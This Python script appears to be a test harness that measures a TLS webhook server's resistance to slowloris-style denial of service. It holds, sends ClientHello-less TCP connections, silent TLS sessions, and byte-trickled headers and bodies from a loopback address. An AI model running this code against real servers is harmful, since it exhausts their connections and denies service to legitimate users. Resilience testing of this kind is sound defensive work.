#!/usr/bin/env python3
"""make bench-webhook's attack: CONNECTIONS slow and silent connections to a TLS webhook from
another loopback address (another pod), kept up for SECONDS (a connection the server closes is
opened again). Four kinds, in turn: TCP that never sends a ClientHello; a TLS handshake, then
silence; request headers trickled a byte every 2 s; a body trickled a byte every 2 s.

Usage: attack.py HOST PORT CONNECTIONS SECONDS [SOURCE_ADDRESS]
Prints how many connections were opened and how many the server closed."""
import asyncio
import ssl
import sys

HEAD = (b"POST /validate HTTP/1.1\r\nHost: localhost\r\n"
        b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
TRICKLE_EVERY = 2.0


def context():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["http/1.1"])
    return ctx


async def trickle(writer, data):
    for byte in data:
        writer.write(bytes([byte]))
        await writer.drain()
        await asyncio.sleep(TRICKLE_EVERY)


async def one(kind, host, port, source, counts, ctx):
    while True:
        try:
            counts["opened"] += 1
            if kind == 0:
                reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
                await reader.read(1)
            else:
                reader, writer = await asyncio.open_connection(
                    host, port, local_addr=(source, 0), ssl=ctx, server_hostname="localhost",
                    ssl_handshake_timeout=60)
                if kind == 1:
                    await reader.read(1)
                elif kind == 2:
                    await trickle(writer, HEAD)
                else:
                    writer.write(HEAD)
                    await writer.drain()
                    await trickle(writer, b" " * 100000)
            counts["closed"] += 1
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, ConnectionError):
            counts["closed"] += 1
        await asyncio.sleep(0.05)


async def main():
    host, port, n, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    source = sys.argv[5] if len(sys.argv) > 5 else "127.0.0.2"
    counts = {"opened": 0, "closed": 0}
    ctx = context()
    tasks = [asyncio.create_task(one(i % 4, host, port, source, counts, ctx)) for i in range(n)]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    print(f'{counts["opened"]} {counts["closed"]}')


if __name__ == "__main__":
    asyncio.run(main())
